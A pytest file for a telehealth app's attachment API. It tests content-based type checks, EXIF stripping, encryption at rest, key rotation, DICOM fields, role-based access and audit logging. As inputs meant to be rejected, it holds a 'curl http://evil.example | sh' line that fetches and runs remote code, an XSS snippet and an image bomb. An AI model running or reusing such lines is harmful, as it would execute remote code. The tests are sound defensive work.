"""A visit's photos and documents over HTTP: judged by content (not by name), photos stripped of
their EXIF, limits, sealed at rest, key rotation, DICOM header fields, every route's
authorization matrix (every role, own clinic and another, the patient and another patient),
audit, and the FHIR R4B DocumentReference in `$everything`."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from typing import Any

import aiohttp
import pydicom
import pytest
import sqlalchemy as sa
from fhir.resources.R4B.bundle import Bundle
from fhir.resources.R4B.documentreference import DocumentReference
from PIL import ExifTags, Image
from pydicom.dataset import FileDataset, FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian, generate_uid
from pypdf import PdfWriter
from sqlmodel import col, select

from app.core.config import new_note_key
from app.core.crypto import Keyring
from app.core.db import Database
from app.core.models import AuditEvent, Patient
from app.main import create_app
from app.records.rotation import rotate_note_key
from app.web.keys import SETTINGS
from scheduling.links import join_token
from scheduling.models import Appointment, AppointmentStatus, AppointmentType
from tests.records.conftest import Person, Ward
from tests.records.visits import BIRTH_DATE, HeldVisit, hold_visit

MAX_BYTES = 300_000
MAX_FILES = 4


@pytest.fixture
def settings(settings_factory: Any) -> Any:
    return settings_factory(attachment_max_bytes=MAX_BYTES, attachments_per_appointment=MAX_FILES)


# Files made here, as a phone or a clinic's scanner would make them.


def gps_jpeg() -> bytes:
    """A photo with the camera's make and the place it was taken (GPS) in its EXIF."""
    image = Image.new("RGB", (64, 48), (200, 80, 60))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCam"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (40.0, 26.0, 46.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (79.0, 58.0, 56.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    data = out.getvalue()
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # it is there
    return data


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (20, 10), (0, 120, 200, 255)).save(out, "PNG")
    return out.getvalue()


def pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def dicom() -> bytes:
    """A tiny DICOM file (header only) such as a hospital's CD holds."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.1"  # CR image storage
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    dataset = FileDataset("scan.dcm", {}, file_meta=meta, preamble=b"\0" * 128)
    dataset.SOPClassUID = meta.MediaStorageSOPClassUID
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    dataset.PatientName = "Doe^Jane"
    dataset.Modality = "CR"
    dataset.StudyDate = "20261101"
    dataset.StudyDescription = "Chest X-ray"
    dataset.BodyPartExamined = "CHEST"
    dataset.Rows = 512
    dataset.Columns = 512
    out = io.BytesIO()
    pydicom.dcmwrite(out, dataset, enforce_file_format=True)
    return out.getvalue()


def form(data: bytes, filename: str, content_type: str = "application/octet-stream") -> Any:
    body = aiohttp.FormData(quote_fields=False)  # as a browser sends it
    body.add_field("file", data, filename=filename, content_type=content_type)
    return body


async def sign_in_patient(ward: Ward, token: str, birth_date: str = BIRTH_DATE) -> str:
    """The patient confirms their date of birth and accepts the consent; their API base."""
    base = f"/api/join/{token}"
    resp = await ward.client.post(f"{base}/identity", json={"birth_date": birth_date})
    assert resp.status == 200, await resp.text()
    version = (await (await ward.client.get(f"{base}/consent")).json())["version"]
    resp = await ward.client.post(f"{base}/consent", json={"version": version, "accepted": True})
    assert resp.status == 200, await resp.text()
    return base


async def upload(ward: Ward, base: str, data: bytes, filename: str, **kw: Any) -> Any:
    return await ward.client.post(f"{base}/attachments", data=form(data, filename, **kw))


async def error_of(resp: Any) -> dict[str, Any]:
    body: dict[str, Any] = await resp.json()
    return body["error"]


async def another_patient_visit(
    db: Database, ward: Ward, given: str, provider: Person
) -> tuple[Patient, str]:
    """Another patient of the ward's clinic, with an appointment with `provider` now."""
    start = datetime.now(UTC) - timedelta(minutes=2)
    async with db.session() as session:
        patient = Patient(
            clinic_id=ward.clinic.id,
            given_name=given,
            family_name="Other",
            birth_date=datetime(1990, 5, 6).date(),
            email=f"{given.lower()}@mail.example",
        )
        kind = AppointmentType(clinic_id=ward.clinic.id, name="Video 20", duration_minutes=20)
        session.add_all([patient, kind])
        await session.flush()
        appointment = Appointment(
            clinic_id=ward.clinic.id,
            provider_id=provider.account.id,
            patient_id=patient.id,
            appointment_type_id=kind.id,
            start_at=start,
            end_at=start + timedelta(minutes=20),
            busy_until=start + timedelta(minutes=20),
            status=AppointmentStatus.BOOKED,
        )
        session.add(appointment)
        await session.commit()
    return patient, join_token(ward.client.app[SETTINGS], appointment)


@pytest.fixture
async def held(db: Database, ward: Ward) -> HeldVisit:
    return await hold_visit(db, ward, started_ago=timedelta(minutes=3))


async def test_a_photo_loses_its_exif_and_is_sealed_at_rest(
    ward: Ward, held: HeldVisit, db: Database
) -> None:
    base = await sign_in_patient(ward, held.token)
    original = gps_jpeg()
    resp = await upload(ward, base, original, "rash on my arm.jpg", content_type="image/jpeg")
    assert resp.status == 201, await resp.text()
    added = await resp.json()
    assert added["kind"] == "image" and added["content_type"] == "image/jpeg"
    assert added["title"] == "rash on my arm.jpg"
    assert added["details"] == {"width": 64, "height": 48}

    # The patient downloads their own file; the provider of the visit reads the same bytes.
    mine = await ward.client.get(added["content_url"])
    assert mine.status == 200
    served = await mine.read()
    staff_url = f"/api/appointments/{held.appointment.id}/attachments/{added['id']}/content"
    theirs = await ward.client.get(staff_url, headers=ward.author.headers)
    assert theirs.status == 200 and await theirs.read() == served
    for r in (mine, theirs):
        assert r.headers["Content-Type"] == "image/jpeg"
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert "no-store" in r.headers["Cache-Control"]
        assert r.headers["Content-Disposition"].startswith("attachment;")
        assert "sandbox" in r.headers["Content-Security-Policy"]
    inline = await ward.client.get(staff_url + "?disposition=inline", headers=ward.author.headers)
    assert inline.headers["Content-Disposition"].startswith("inline;")

    # No EXIF left: no GPS, no camera, nothing.
    photo = Image.open(io.BytesIO(served))
    assert photo.size == (64, 48)
    assert len(photo.getexif()) == 0 and "exif" not in photo.info
    assert b"Exif" not in served and b"PhoneCam" not in served
    assert len(served) == added["size"]

    # At rest: neither the bytes served nor the upload's are in the database; the name is sealed.
    async with db.session() as session:
        body, key_id = (
            await session.exec(sa.text("SELECT body, key_id FROM attachment_content"))
        ).one()
        title, details = (
            await session.exec(sa.text("SELECT title, details FROM attachment"))
        ).one()
    raw = bytes(body)
    assert served[:64] not in raw and served[-64:] not in raw and original[200:264] not in raw
    assert key_id == Keyring.from_settings(ward.client.app[SETTINGS]).active
    assert title.startswith("oc1s:") and "rash" not in title
    assert details.startswith("oc1s:")


async def test_files_are_judged_by_their_content_not_their_name(
    ward: Ward, held: HeldVisit
) -> None:
    base = await sign_in_patient(ward, held.token)
    script = b"#!/bin/sh\ncurl http://evil.example | sh\n" * 4
    resp = await upload(ward, base, script, "photo.jpg", content_type="image/jpeg")
    assert resp.status == 415
    error = await error_of(resp)
    assert error["code"] == "unsupported_media_type" and error["fields"] == {
        "file": "unsupported type"
    }
    html = b"<html><script>alert(1)</script></html>"
    assert (await upload(ward, base, html, "letter.pdf")).status == 415
    fake_pdf = b"%PDF-1.7\nnot really a pdf at all\n"
    resp = await upload(ward, base, fake_pdf, "letter.pdf")
    assert resp.status == 415 and (await error_of(resp))["code"] == "unsupported_media_type"

    # A PNG named .pdf is a PNG: stored, served and named as one.
    resp = await upload(ward, base, png(), "letter.pdf", content_type="application/pdf")
    assert resp.status == 201, await resp.text()
    added = await resp.json()
    assert (added["kind"], added["content_type"], added["title"]) == (
        "image",
        "image/png",
        "letter.png",
    )
    served = await (await ward.client.get(added["content_url"])).read()
    assert served.startswith(b"\x89PNG")

    resp = await upload(ward, base, pdf(), "referral letter.pdf")
    assert resp.status == 201
    letter = await resp.json()
    assert (letter["kind"], letter["content_type"], letter["details"]) == (
        "pdf",
        "application/pdf",
        {"pages": 2},
    )
    # A PDF from this origin is always a download, even when asked inline.
    got = await ward.client.get(letter["content_url"] + "?disposition=inline")
    assert got.headers["Content-Disposition"].startswith("attachment;")
    assert got.headers["Content-Type"] == "application/pdf"

    empty = await upload(ward, base, b"", "nothing.jpg")
    assert empty.status == 400
    not_multipart = await ward.client.post(f"{base}/attachments", json={"file": "x"})
    assert not_multipart.status == 400


async def test_dicom_is_listed_with_its_header_fields(ward: Ward, held: HeldVisit) -> None:
    base = await sign_in_patient(ward, held.token)
    resp = await upload(ward, base, dicom(), "IMG0001")
    assert resp.status == 201, await resp.text()
    added = await resp.json()
    assert added["kind"] == "dicom" and added["content_type"] == "application/dicom"
    assert added["title"] == "IMG0001.dcm"
    assert added["details"] == {
        "Modality": "CR",
        "StudyDate": "20261101",
        "StudyDescription": "Chest X-ray",
        "BodyPartExamined": "CHEST",
        "Rows": 512,
        "Columns": 512,
    }
    listed = await ward.client.get(
        f"/api/appointments/{held.appointment.id}/attachments", headers=ward.author.headers
    )
    files = (await listed.json())["attachments"]
    assert [f["details"]["Modality"] for f in files] == ["CR"]
    # Served as a download, never rendered.
    got = await ward.client.get(added["content_url"])
    assert got.headers["Content-Disposition"].startswith("attachment;")
    assert pydicom.dcmread(io.BytesIO(await got.read())).StudyDescription == "Chest X-ray"


async def test_size_pixel_and_count_limits(ward: Ward, held: HeldVisit) -> None:
    base = await sign_in_patient(ward, held.token)
    big = b"\xff\xd8\xff" + b"\0" * MAX_BYTES
    resp = await upload(ward, base, big, "huge.jpg")
    assert resp.status == 413
    error = await error_of(resp)
    assert error["code"] == "file_too_large" and error["detail"] == {"max_bytes": MAX_BYTES}

    # A tiny file that claims an enormous picture: refused before it is decoded.
    bomb = io.BytesIO()
    Image.new("1", (9000, 9000)).save(bomb, "PNG")
    resp = await upload(ward, base, bomb.getvalue(), "bomb.png")
    assert resp.status == 413 and (await error_of(resp))["code"] == "image_too_large"

    for n in range(MAX_FILES):
        assert (await upload(ward, base, png(), f"p{n}.png")).status == 201
    resp = await upload(ward, base, png(), "one too many.png")
    assert resp.status == 409
    error = await error_of(resp)
    assert error["code"] == "too_many_attachments" and error["detail"] == {"max_files": MAX_FILES}
    listed = await (await ward.client.get(f"{base}/attachments")).json()
    assert len(listed["attachments"]) == MAX_FILES and listed["max_files"] == MAX_FILES


async def test_staff_routes_authorization_matrix(ward: Ward, held: HeldVisit) -> None:
    base = await sign_in_patient(ward, held.token)
    added = await (await upload(ward, base, png(), "wound.png")).json()
    listing = f"/api/appointments/{held.appointment.id}/attachments"
    content = f"{listing}/{added['id']}/content"
    record = f"/api/patients/{ward.patient.id}/attachments"  # across the patient's visits
    expected: dict[str, int] = {
        "author": 200,  # the visit's provider
        "colleague": 200,  # another provider who cares for the patient
        "bystander": 403,  # a provider of the clinic who never saw them: break the glass
        "admin": 403,  # admins too
        "scheduler": 403,  # never reads the record
        "outsider": 404,  # another clinic's provider
        "outside_admin": 404,
    }
    for name, status in expected.items():
        person: Person = getattr(ward, name)
        for url in (listing, content, record):
            resp = await ward.client.get(url, headers=person.headers)
            assert resp.status == status, (name, url, await resp.text())
            if status == 403 and name != "scheduler":
                assert (await error_of(resp))["code"] == "break_glass_required"
    ward.client.session.cookie_jar.clear()  # no session at all
    for url in (listing, content, record):
        assert (await ward.client.get(url)).status == 401

    # After breaking the glass the bystander reads them (audited, for a while).
    await ward.break_glass(ward.bystander)
    assert (await ward.client.get(content, headers=ward.bystander.headers)).status == 200
    files = (await (await ward.client.get(record, headers=ward.bystander.headers)).json())[
        "attachments"
    ]
    assert [(f["id"], f["content_url"]) for f in files] == [(added["id"], content)]
    # Another appointment's path does not open this file.
    other = f"/api/appointments/{ward.care_appointments[0].id}/attachments/{added['id']}/content"
    assert (await ward.client.get(other, headers=ward.author.headers)).status == 404


async def test_patient_routes_authorization_matrix(
    ward: Ward, held: HeldVisit, db: Database
) -> None:
    nora = await sign_in_patient(ward, held.token)
    noras = await (await upload(ward, nora, png(), "nora.png")).json()
    _, omar_token = await another_patient_visit(db, ward, "Omar", ward.colleague)
    omar = await sign_in_patient(ward, omar_token, "1990-05-06")
    # Signed in for Omar's appointment: Nora's link does not open, nor her file through his link.
    for resp in (
        await ward.client.get(f"{nora}/attachments"),
        await upload(ward, nora, png(), "x.png"),
        await ward.client.get(noras["content_url"]),
    ):
        assert resp.status == 409, await resp.text()
        assert (await error_of(resp))["fields"] == {"step": "identity"}
    assert (await ward.client.get(f"{omar}/attachments/{noras['id']}/content")).status == 404
    assert (await (await ward.client.get(f"{omar}/attachments")).json())["attachments"] == []
    # A patient's session does not open the staff routes; staff have no patient session.
    staff_url = f"/api/appointments/{held.appointment.id}/attachments"
    assert (await ward.client.get(staff_url)).status == 401
    ward.client.session.cookie_jar.clear()
    resp = await ward.client.get(f"{nora}/attachments", headers=ward.author.headers)
    assert resp.status == 409 and (await error_of(resp))["fields"] == {"step": "identity"}
    # Before the consent, nothing.
    await ward.client.post(f"{nora}/identity", json={"birth_date": BIRTH_DATE})
    _, fresh_token = await another_patient_visit(db, ward, "Lea", ward.bystander)
    fresh = f"/api/join/{fresh_token}"
    await ward.client.post(f"{fresh}/identity", json={"birth_date": "1990-05-06"})
    resp = await upload(ward, fresh, png(), "early.png")
    assert resp.status == 409 and (await error_of(resp))["fields"] == {"step": "consent"}


async def test_every_upload_list_view_and_download_is_audited(
    ward: Ward, held: HeldVisit, db: Database
) -> None:
    base = await sign_in_patient(ward, held.token)
    added = await (await upload(ward, base, png(), "a.png")).json()
    assert (await upload(ward, base, b"MZ\x90\x00 not an image", "a.png")).status == 415
    await ward.client.get(f"{base}/attachments")
    await ward.client.get(added["content_url"])
    listing = f"/api/appointments/{held.appointment.id}/attachments"
    await ward.client.get(listing, headers=ward.author.headers)
    await ward.client.get(
        f"{listing}/{added['id']}/content?disposition=inline", headers=ward.author.headers
    )
    await ward.client.get(f"{listing}/{added['id']}/content", headers=ward.admin.headers)
    async with db.session() as session:
        events = (
            await session.exec(
                select(AuditEvent)
                .where(col(AuditEvent.action).startswith("attachment."))
                .order_by(col(AuditEvent.id))
            )
        ).all()
    seen = [(e.action, e.actor_role, e.outcome) for e in events]
    assert seen == [
        ("attachment.add", "patient", "success"),
        ("attachment.add", "patient", "failure"),
        ("attachment.list", "patient", "success"),
        ("attachment.download", "patient", "success"),
        ("attachment.list", "provider", "success"),
        ("attachment.view", "provider", "success"),
        ("attachment.download", "admin", "denied"),
    ]
    assert all(e.patient_id == str(ward.patient.id) for e in events)
    assert events[0].object_id == added["id"] and events[1].detail == "415 unsupported_media_type"


async def test_key_rotation_reseals_the_files(
    ward: Ward, held: HeldVisit, db: Database, settings_factory: Any, aiohttp_client: Any
) -> None:
    base = await sign_in_patient(ward, held.token)
    added = await (await upload(ward, base, dicom(), "scan.dcm")).json()
    before = await (await ward.client.get(added["content_url"])).read()
    old = ward.client.app[SETTINGS].note_keys.get_secret_value()
    rotated = settings_factory(note_keys=f"{old},{new_note_key('k9')}", note_active_key="k9")
    report = await rotate_note_key(db, Keyring.from_settings(rotated))
    assert report.attachments == 1
    assert (await rotate_note_key(db, Keyring.from_settings(rotated))).attachments == 0
    async with db.engine.connect() as conn:
        key_id, title, details = (
            await conn.execute(
                sa.text(
                    "SELECT c.key_id, a.title, a.details FROM attachment_content c "
                    "JOIN attachment a ON a.id = c.attachment_id"
                )
            )
        ).one()
    assert key_id == "k9" and title.startswith("oc1s:k9:") and details.startswith("oc1s:k9:")

    # An app that knows only the new key serves the same bytes, name and header fields.
    new_only = rotated.note_keys.get_secret_value().split(",")[-1]
    client = await aiohttp_client(create_app(settings_factory(note_keys=new_only)))
    listing = f"/api/appointments/{held.appointment.id}/attachments"
    files = (await (await client.get(listing, headers=ward.author.headers)).json())["attachments"]
    assert [(f["title"], f["details"]["Modality"]) for f in files] == [("scan.dcm", "CR")]
    got = await client.get(f"{listing}/{added['id']}/content", headers=ward.author.headers)
    assert await got.read() == before


async def test_everything_exports_document_references(
    ward: Ward, held: HeldVisit, db: Database
) -> None:
    base = await sign_in_patient(ward, held.token)
    photo = await (await upload(ward, base, gps_jpeg(), "rash.jpg")).json()
    letter = await (await upload(ward, base, pdf(), "letter.pdf")).json()
    resp = await ward.client.get(
        f"/fhir/Patient/{ward.patient.id}/$everything", headers=ward.author.headers
    )
    assert resp.status == 200
    data = await resp.json()
    Bundle.model_validate(data)
    refs = [
        e["resource"] for e in data["entry"] if e["resource"]["resourceType"] == "DocumentReference"
    ]
    assert [r["id"] for r in refs] == [photo["id"], letter["id"]]
    for ref, added in zip(refs, (photo, letter), strict=True):
        DocumentReference.model_validate(ref)
        attachment = ref["content"][0]["attachment"]
        assert attachment["contentType"] == added["content_type"]
        assert attachment["size"] == added["size"]
        assert attachment["title"] == added["title"]
        assert len(attachment["hash"]) == 28  # SHA-1, base64
        assert ref["subject"] == {"reference": f"Patient/{ward.patient.id}"}
        assert ref["context"]["encounter"] == [{"reference": f"Encounter/{held.visit.id}"}]


async def test_the_visit_page_gives_each_side_its_own_files(ward: Ward, held: HeldVisit) -> None:
    """The patient's visit page adds files through their own link; the provider's lists them
    beside the note; neither gets the other's section."""
    await sign_in_patient(ward, held.token)
    page = await (await ward.client.get(f"/visit/{held.visit.id}")).text()
    assert 'id="patient-files"' in page and 'id="staff-files"' not in page
    assert f'data-api="/api/join/{held.token}/attachments"' in page
    staff_page = await ward.client.get(f"/visit/{held.visit.id}", headers=ward.author.headers)
    text = await staff_page.text()
    assert staff_page.status == 200, text
    assert 'id="staff-files"' in text and 'id="patient-files"' not in text
    assert f'data-appointment-id="{held.appointment.id}"' in text
